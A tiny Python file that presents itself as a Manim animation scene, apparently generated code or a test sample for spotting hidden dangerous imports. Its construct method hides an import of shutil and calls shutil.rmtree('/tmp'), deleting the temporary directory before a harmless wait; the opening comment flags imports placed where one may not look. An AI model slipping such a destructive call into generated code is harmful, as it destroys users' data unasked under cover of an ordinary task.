# imports where one may not look
from manim import *


class GeneratedScene(Scene):
    def construct(self):
        import shutil
        shutil.rmtree("/tmp")
        self.wait()
